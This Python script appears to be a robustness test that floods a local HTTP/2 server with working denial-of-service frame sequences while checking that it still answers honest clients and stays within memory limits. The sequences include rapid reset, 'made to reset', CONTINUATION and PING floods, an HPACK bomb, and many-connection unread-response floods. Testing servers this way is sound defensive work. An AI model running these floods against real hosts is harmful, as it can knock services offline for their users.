"""What a site does with HTTP/2 that no honest client sends, with frames and header compression of hyperframe and hpack.

    python3 frames.py HOST:PORT PID PAGE LARGE

PAGE and LARGE (more than a MiB) are paths that stand there; PID is the server's process on this machine. Each attack goes
on for a while; meanwhile and afterwards another client, which is the library h2, asks for PAGE. Fails with exit status 1
where that client is not answered, where the server grows by more than BOUND, or where an attack ends otherwise than it
may. Certificates are not looked at.
"""

import pathlib
import re
import select
import socket
import ssl
import sys
import threading
import time

import h2.config
import h2.connection
import h2.events
import hpack
from hyperframe import frame as frames
from hyperframe.exceptions import HyperframeError

# How much memory the server may take more than before, in KiB: for what it keeps of the attacks before, too.
BOUND = 48 << 10

# The same while one address has all connections that it may have, and asks on each for all that it may: what it may leave
# lying, and what the connections themselves take.
HOUSEHOLD_BOUND = 128 << 10

# How many connections one address may have, and how many requests there may be on each.
HOUSEHOLD, STREAMS = 256, 128

# How long one attack goes on, in seconds, where the server takes it.
LONG = 1.5

# How many connections one client has where it has several.
MANY = 16

# The attack that has a bound of its own.
A_HOUSEHOLD = f"{STREAMS} answers never read on each of the {HOUSEHOLD} connections of one address"

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

# What a PING says behind everything else.
THE_END = b"the end."

CODES = "NO_ERROR PROTOCOL_ERROR INTERNAL_ERROR FLOW_CONTROL_ERROR SETTINGS_TIMEOUT STREAM_CLOSED FRAME_SIZE_ERROR \
REFUSED_STREAM CANCEL COMPRESSION_ERROR CONNECT_ERROR ENHANCE_YOUR_CALM INADEQUATE_SECURITY HTTP_1_1_REQUIRED".split()


class Ended(Exception):
    """The server has ended the connection."""


class Client:
    """A connection on which frames are sent as they are."""

    def __init__(self, address, settings=None, source=None):
        host, port = address.rsplit(":", 1)
        come_from = (source, 0) if source else None
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        self.socket = context.wrap_socket(socket.create_connection((host, int(port)), 20, come_from))
        assert self.socket.selected_alpn_protocol() == "h2", "the server does not speak HTTP/2"
        self.socket.setblocking(False)
        self.encoder, self.decoder = hpack.Encoder(), hpack.Decoder()
        self.input, self.statuses, self.resets, self.goaway = b"", {}, {}, None
        self.held, self.ended, self.sent, self.done, self.others, self.deaf = False, False, 0, False, [], False
        self.send(PREFACE + frame(frames.SettingsFrame(0, settings=settings or {})))

    def send(self, data):
        """Sends all of it, unless the server takes nothing for as long as an attack goes on."""
        until = time.monotonic() + LONG
        while data and not self.ended:
            self.read()
            try:
                sent = self.socket.send(data[: 1 << 14])
                data, until = data[sent:], time.monotonic() + LONG
                self.sent += sent
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
                if time.monotonic() > until:
                    self.held = True
                    return
                select.select([self.socket], [self.socket], [], 0.05)
            except OSError:
                self.read()
                self.ended = True
        if self.ended:
            raise Ended

    def read(self):
        """Takes what has come, unless nothing is to be taken."""
        while not self.deaf:
            try:
                chunk = self.socket.recv(1 << 16)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                return self.take()
            except OSError:
                chunk = b""
            if not chunk:
                self.ended = True
                return self.take()
            self.input += chunk

    def take(self):
        while len(self.input) >= 9:
            head, length = frames.Frame.parse_frame_header(memoryview(self.input[:9]))
            if len(self.input) < 9 + length:
                return
            head.parse_body(memoryview(self.input[9 : 9 + length]))
            self.input = self.input[9 + length :]
            if isinstance(head, frames.GoAwayFrame):
                self.goaway = CODES[head.error_code]
            elif isinstance(head, frames.RstStreamFrame):
                self.resets[head.stream_id] = CODES[head.error_code]
            elif isinstance(head, frames.HeadersFrame):
                self.statuses[head.stream_id] = dict(self.decoder.decode(head.data))[":status"]
            elif isinstance(head, frames.PingFrame):
                self.done |= head.opaque_data == THE_END

    def wait(self, holds, seconds=10):
        """Reads until something holds, the connection ends, or it took too long."""
        until = time.monotonic() + seconds
        while not holds() and not self.ended and time.monotonic() < until:
            select.select([self.socket], [], [], 0.05)
            self.read()

    def close(self):
        for client in (self, *self.others):
            client.socket.close()

    def outcome(self):
        """What became of the connection, in words."""
        statuses, resets = sorted(set(self.statuses.values())), sorted(set(self.resets.values()))
        said = [f"status {status}" for status in statuses] + [f"reset {reset}" for reset in resets]
        if self.goaway:
            said.append(f"GOAWAY {self.goaway}")
        elif self.ended:
            said.append("closed")
        if self.held:
            said.append("held back")
        return ", ".join(said) or "taken"

    def request(self, stream, path, flags=("END_HEADERS", "END_STREAM"), method="GET", more=()):
        """A frame with a request's headers."""
        headers = [(":method", method), (":scheme", "https"), (":authority", "test"), (":path", path), *more]
        made = frames.HeadersFrame(stream, data=self.encoder.encode(headers))
        return frame(made, *flags)


def frame(made, *flags):
    """A frame as it travels."""
    for flag in flags:
        made.flags.add(flag)
    return made.serialize()


def raw(kind, flags, stream, payload):
    """A frame that the library would not make."""
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def window(stream, by):
    return frame(frames.WindowUpdateFrame(stream, window_increment=by))


def once(data):
    """Sends it."""
    return lambda client: client.send(data)


def repeat(client, make, times):
    """Sends `make(number)` over and over, for as long as an attack goes on."""
    until, batch = time.monotonic() + LONG, b""
    for number in range(times):
        batch += make(number)
        if len(batch) > 1 << 15 or number + 1 == times:
            client.send(batch)
            batch = b""
            if client.held or time.monotonic() > until:
                return


def plain(address, page, large):
    """Attacks of one connection: name, settings, what is done, and how it may end (a pattern)."""

    def rapid_reset(client):
        def one(number):
            stream = 2 * number + 1
            return client.request(stream, page) + frame(frames.RstStreamFrame(stream, error_code=8))

        repeat(client, one, 50_000)

    def made_to_reset(client):
        def one(number):
            stream = 2 * number + 1
            return client.request(stream, page, ["END_HEADERS"]) + window(stream, 2**31 - 1)

        repeat(client, one, 50_000)

    def continuation(size):
        def flood(client):
            client.send(client.request(1, page, []))
            repeat(client, lambda _: raw(9, 0, 1, b"\x00\x01a" + bytes([size % 127]) + bytes(size)), 20_000)

        return flood

    def empty_continuation(client):
        client.send(client.request(1, page, []))
        repeat(client, lambda _: raw(9, 0, 1, b""), 400_000)

    def empty_data(client):
        client.send(client.request(1, page, ["END_HEADERS"], "POST"))
        repeat(client, lambda _: raw(0, 0, 1, b""), 400_000)

    def empty_data_stalled(client):
        client.send(client.request(1, large, ["END_HEADERS"]))
        repeat(client, lambda _: raw(0, 0, 1, b""), 400_000)

    def padded_data(client):
        client.send(client.request(1, large, ["END_HEADERS"]))
        repeat(client, lambda _: raw(0, 8, 1, b"\xff" + bytes(255)), 100_000)

    def window_of_connection(client):
        client.send(window(0, 2**31 - 1) * 2)

    def window_of_stream(client):
        client.send(client.request(1, large) + window(1, 2**31 - 1) * 2)

    def settings_window(client):
        client.send(client.request(1, large))
        client.send(raw(4, 0, 0, b"\x00\x04\xff\xff\xff\xff"))

    def again(client):
        client.send(client.request(1, page))
        client.wait(lambda: 1 in client.statuses)
        client.send(client.request(1, page))

    def backwards(client):
        client.send(client.request(9, page) + client.request(7, page))

    def even(client):
        client.send(client.request(2, page))

    def too_large(client):
        client.send(client.request(1, page, [], more=[("cookie", "x" * 12_000)]))
        client.send(frame(frames.ContinuationFrame(1, data=client.encoder.encode([("x-y", "y" * 12_000)])), "END_HEADERS"))

    def bomb(client):
        client.send(client.request(1, page, more=[("x-bomb", "b" * 3900)]))
        client.wait(lambda: 1 in client.statuses)
        # The newest entry of the table, over and over: 16 KiB that stand for 64 MiB.
        repeat(client, lambda number: raw(1, 5, 2 * number + 3, b"\xbe" * 16_000), 200)

    def table_size(client):
        repeat(client, lambda number: raw(1, 5, 2 * number + 1, b"\x3f\xff\xff\xff\xff\x0f\x82"), 100)

    def slow_window(client):
        for stream in range(1, 201, 2):
            client.send(client.request(stream, large))
        repeat(client, lambda number: window(2 * (number % 100) + 1, 1), 100_000)

    def half_open(client):
        for stream in range(1, 801, 2):
            client.send(client.request(stream, page, ["END_HEADERS"], "POST", [("content-length", "10")]))

    def half_headers(client):
        client.send(client.request(1, page, []))

    def never_read(client):
        for stream in range(1, 257, 2):
            client.send(client.request(stream, large))

    def never_read_by_many(client):
        client.others = [Client(address) for _ in range(MANY - 1)]
        for one in (client, *client.others):
            never_read(one)
        for one in client.others:
            one.wait(lambda: len(one.statuses) >= 128)

    def never_read_by_a_household(client):
        # From another address than those who are to be answered meanwhile, with windows as wide as can be.
        encoder, client.encoder = client.encoder, hpack.Encoder()
        asked = b"".join(client.request(stream, large) for stream in range(1, 2 * STREAMS, 2))
        client.encoder = encoder
        for _ in range(HOUSEHOLD):
            one = Client(address, {4: 2**31 - 1}, "127.0.0.2")
            client.others.append(one)
            one.deaf = True
            try:
                one.send(window(0, 2**31 - 1 - 65_535) + asked)
            except Ended:
                pass

    def churn(client):
        for stream in range(1, 201, 2):
            client.send(client.request(stream, large))
        both = raw(4, 0, 0, b"\x00\x04\x00\x00\x00\x01") + raw(4, 0, 0, b"\x00\x04\x00\x00\x00\x00")
        repeat(client, lambda _: both, 50_000)

    def beyond_window(client):
        client.send(client.request(1, large, ["END_HEADERS"]))
        repeat(client, lambda _: raw(0, 0, 1, bytes(16_384)), 2000)

    def malformed(headers):
        return lambda client: client.send(raw(1, 5, 1, client.encoder.encode(headers)))

    good = [(":method", "GET"), (":scheme", "https"), (":authority", "test"), (":path", page)]
    calm, over = "GOAWAY (ENHANCE_YOUR_CALM|PROTOCOL_ERROR)", "GOAWAY|closed"
    flow, refused = "FLOW_CONTROL_ERROR", "reset PROTOCOL_ERROR|GOAWAY PROTOCOL_ERROR|status 400"
    stalled = {4: 0}
    return [
        ("rapid reset (CVE-2023-44487)", {}, rapid_reset, calm),
        ("made to reset (CVE-2025-8671)", {}, made_to_reset, calm),
        ("CONTINUATION flood", {}, continuation(100), over),
        ("CONTINUATION without content", {}, empty_continuation, over),
        ("SETTINGS flood", {}, lambda client: repeat(client, lambda _: raw(4, 0, 0, b""), 200_000), "taken|held|GOAWAY"),
        ("PING flood", {}, lambda client: repeat(client, lambda _: raw(6, 0, 0, bytes(8)), 200_000), "taken|held|GOAWAY"),
        ("PRIORITY flood", {}, lambda client: repeat(client, lambda _: raw(2, 0, 1, bytes(4) + b"\x10"), 200_000), ""),
        ("frames of unknown kinds", {}, lambda client: repeat(client, lambda _: raw(200, 0, 0, b"x" * 64), 100_000), ""),
        ("DATA without content", {}, empty_data, ""),
        ("DATA without content, answer stalled", stalled, empty_data_stalled, ""),
        ("DATA of padding alone, answer stalled", stalled, padded_data, ""),
        ("DATA beyond the window", stalled, beyond_window, flow + "|STREAM_CLOSED|reset"),
        ("window of the connection overflows", {}, window_of_connection, "GOAWAY " + flow),
        ("window of a stream overflows", {}, window_of_stream, flow),
        ("window beyond 2^31 by SETTINGS", {}, settings_window, "GOAWAY"),
        ("a stream's number again", {}, again, "STREAM_CLOSED|PROTOCOL_ERROR"),
        ("a stream's number backwards", {}, backwards, "PROTOCOL_ERROR|STREAM_CLOSED"),
        ("a stream's number even", {}, even, "GOAWAY PROTOCOL_ERROR"),
        ("headers too large", {}, too_large, "status 431|reset|GOAWAY"),
        ("HPACK bomb", {}, bomb, "status 431|reset|GOAWAY"),
        ("HPACK table size beyond the limit", {}, table_size, "GOAWAY"),
        ("windows of one byte", stalled, slow_window, ""),
        ("streams half open", {}, half_open, "reset REFUSED_STREAM|status 405"),
        ("headers half sent, then a PING", {}, half_headers, "GOAWAY PROTOCOL_ERROR"),
        ("128 answers never read", {}, never_read, "status 200"),
        (f"128 answers never read on each of {MANY} connections", {}, never_read_by_many, "status 200"),
        ("window to and fro by SETTINGS", stalled, churn, ""),
        (A_HOUSEHOLD, {}, never_read_by_a_household, ""),
        ("SETTINGS of a wrong length", {}, once(raw(4, 0, 0, bytes(5))), "GOAWAY"),
        ("a frame that is too long", {}, once(raw(0, 0, 1, bytes(16_385))), "GOAWAY FRAME_SIZE_ERROR"),
        ("a name in capitals", {}, malformed([*good, ("X-Y", "1")]), refused),
        ("a pseudo-header last", {}, malformed([*good[:3], ("x-y", "1"), good[3]]), refused),
        ("`connection` in a request", {}, malformed([*good, ("connection", "close")]), refused),
        ("no path", {}, malformed(good[:3]), refused),
        ("no HTTP/2 at all", {}, once(b"GET / HTTP/1.1\r\nhost: test\r\n\r\n"), over),
    ]


def rules(page):
    """What RFC 9113 does not let a client do, one frame each: section, name, what is sent, and how it may end."""
    good = [(":method", "GET"), (":scheme", "https"), (":authority", "test"), (":path", page)]

    def headers(fields, flags=5, stream=1):
        # Each connection has a table of its own.
        return raw(1, flags, stream, hpack.Encoder().encode(fields))

    ask, post = headers(good), headers([(":method", "POST"), *good[1:], ("content-length", "9")], 4)
    connection, stream = "GOAWAY|closed", "reset|GOAWAY|status 400"
    refused = {
        "a pseudo-header twice": [*good, (":path", "/")],
        "a pseudo-header that there is not": [*good, (":x", "y")],
        "a pseudo-header of answers": [*good, (":status", "200")],
        "an empty path": [*good[:3], (":path", "")],
        "no method": good[1:],
        "no scheme": [good[0], *good[2:]],
        "`te` with anything but trailers": [*good, ("te", "gzip")],
        "`transfer-encoding` in a request": [*good, ("transfer-encoding", "chunked")],
        "`keep-alive` in a request": [*good, ("keep-alive", "1")],
    }
    for name, fields in refused.items():
        yield "8.2, 8.3", name, headers(fields), stream
    yield from (
        ("4.3", "headers that cannot be decoded", raw(1, 5, 1, b"\x80"), connection),
        ("5.1", "DATA on an idle stream", raw(0, 1, 1, b"x"), connection),
        ("5.1", "RST_STREAM on an idle stream", raw(3, 0, 1, bytes(4)), connection),
        ("5.1", "WINDOW_UPDATE on an idle stream", window(1, 1), connection),
        ("5.1", "DATA after the end", ask + raw(0, 1, 1, b"x"), stream),
        ("6.1", "DATA on stream 0", raw(0, 1, 0, b"x"), connection),
        ("6.1", "more padding than frame", post + raw(0, 9, 1, b"\x09x"), connection),
        ("6.2", "HEADERS on stream 0", headers(good, 5, 0), connection),
        ("6.3", "PRIORITY of a wrong length", raw(2, 0, 1, bytes(4)), stream),
        ("6.4", "RST_STREAM of a wrong length", ask + raw(3, 0, 1, bytes(3)), connection),
        ("6.5", "SETTINGS on a stream", raw(4, 0, 1, b""), connection),
        ("6.5", "an acknowledgement with settings", raw(4, 1, 0, bytes(6)), connection),
        ("6.5", "ENABLE_PUSH of 2", raw(4, 0, 0, b"\x00\x02\x00\x00\x00\x02"), connection),
        ("6.5", "MAX_FRAME_SIZE of 1", raw(4, 0, 0, b"\x00\x05\x00\x00\x00\x01"), connection),
        ("6.6", "PUSH_PROMISE of a client", ask + raw(5, 4, 1, b"\x00\x00\x00\x02\x82"), connection),
        ("6.7", "PING on a stream", raw(6, 0, 1, bytes(8)), connection),
        ("6.7", "PING of a wrong length", raw(6, 0, 0, bytes(7)), connection),
        ("6.8", "GOAWAY on a stream", raw(7, 0, 1, bytes(8)), connection),
        ("6.9", "a window that grows by 0", raw(8, 0, 0, bytes(4)), connection),
        ("6.9", "WINDOW_UPDATE of a wrong length", raw(8, 0, 0, bytes(3)), connection),
        ("6.10", "CONTINUATION of nothing", raw(9, 4, 1, b""), connection),
        ("6.10", "another frame amid headers", headers(good, 1) + raw(2, 0, 1, bytes(5)), connection),
        ("8.1.1", "less content than announced", post + raw(0, 1, 1, b"x"), stream + "|status 405"),
        ("4.1, 5.5", "a frame of an unknown kind", raw(99, 255, 0, b"x") + ask, "^status 200$"),
    )


def memory(pid):
    """What the process has in memory, in KiB."""
    return int(re.search(r"VmRSS:\s+(\d+)", pathlib.Path(f"/proc/{pid}/status").read_text()).group(1))


def answered(address, page):
    """Whether an honest client is answered."""
    host, port = address.rsplit(":", 1)
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    with context.wrap_socket(socket.create_connection((host, int(port)), timeout=10)) as stream:
        connection.initiate_connection()
        named = [(":method", "GET"), (":scheme", "https"), (":authority", address), (":path", page)]
        connection.send_headers(1, named, end_stream=True)
        stream.sendall(connection.data_to_send())
        status = None
        while chunk := stream.recv(1 << 16):
            for event in connection.receive_data(chunk):
                if isinstance(event, h2.events.ResponseReceived):
                    status = dict(event.headers)[b":status"]
                if isinstance(event, h2.events.StreamEnded):
                    return status == b"200"
            stream.sendall(connection.data_to_send())
    return False


def attack(address, name, settings, act, held):
    """Does it on one connection, which is kept; what became of it."""
    client = Client(address, settings)
    held.append(client)
    try:
        act(client)
        # What the server has to say has come where a PING after all of it is answered.
        client.send(raw(6, 0, 0, THE_END))
        client.wait(lambda: client.done or client.held)
        # An answer is made by another task, and may come later.
        client.wait(lambda: client.statuses or client.resets or client.goaway, 1)
    except Ended:
        pass
    return client.outcome()


def meanwhile(address, page, done):
    """Asks for the page over and over until `done`; how often, and whether it was answered each time."""
    times = 0
    while True:
        if not answered(address, page):
            return times, False
        times += 1
        if done.is_set():
            return times, True


def main():
    address, pid, page, large = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
    assert answered(address, page), "the page does not come"
    before, wrong = memory(pid), []
    attacks = plain(address, page, large)
    attacks += [(f"{name} ({section})", {}, once(sent), may) for section, name, sent, may in rules(page)]
    # Last, since what the process once had in memory it may keep.
    attacks.sort(key=lambda attack: attack[0] == A_HOUSEHOLD)
    for name, settings, act, may in attacks:
        done, held, outcome = threading.Event(), [], []

        def run():
            try:
                outcome.append(attack(address, name, settings, act, held))
            except (OSError, HyperframeError) as error:
                outcome.append(f"broken off: {error}")
            finally:
                done.set()

        thread = threading.Thread(target=run)
        thread.start()
        times, well = meanwhile(address, page, done)
        thread.join()
        grown = memory(pid) - before
        sent = sum(client.sent for client in held) >> 10
        print(f"{name}: {outcome[0]}; {sent} KiB sent; others answered {times} times; memory {grown:+} KiB", flush=True)
        if not well:
            wrong.append(f"{name}: another client is not answered")
        if grown > (HOUSEHOLD_BOUND if name == A_HOUSEHOLD else BOUND):
            wrong.append(f"{name}: the server has grown by {grown} KiB")
        if not re.search(may, outcome[0]):
            wrong.append(f"{name}: {outcome[0]!r}, and not {may!r}")
        for client in held:
            client.close()
    if wrong:
        sys.exit("\n".join(["NOT withstood:"] + wrong))
    print("withstood")


if __name__ == "__main__":
    main()
